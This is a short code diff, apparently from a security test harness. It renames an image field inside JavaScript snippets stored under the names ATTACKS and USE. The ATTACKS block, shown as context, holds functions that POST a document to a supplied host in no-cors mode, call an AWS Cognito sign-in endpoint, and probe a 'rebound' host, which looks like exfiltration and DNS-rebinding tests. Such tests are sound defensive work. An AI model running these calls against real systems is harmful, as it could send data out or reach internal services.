@@ -64,14 +64,14 @@ ATTACKS = """
     await fetch(given.make, {method: "POST", mode: "no-cors", body: given.document});
     return "sent";
   },
-  read: async () => (await fetch(given.image)).text(),
+  read: async () => (await fetch(given.picture)).text(),
   signIn: async () => (await fetch(given.endpoint, {method: "POST", body: "{}", headers: {
     "content-type": "application/x-amz-json-1.1",
     "x-amz-target": "AWSCognitoIdentityProviderService.InitiateAuth"}})).status,
   rebound: async () => (await fetch(given.rebound + "/health")).status,
 """
 USE = f"""
-  read: async () => (await fetch(given.image)).text(),
+  read: async () => (await fetch(given.picture)).text(),
   show: {IMAGE},
   upload: async () => {{
     const form = new FormData();
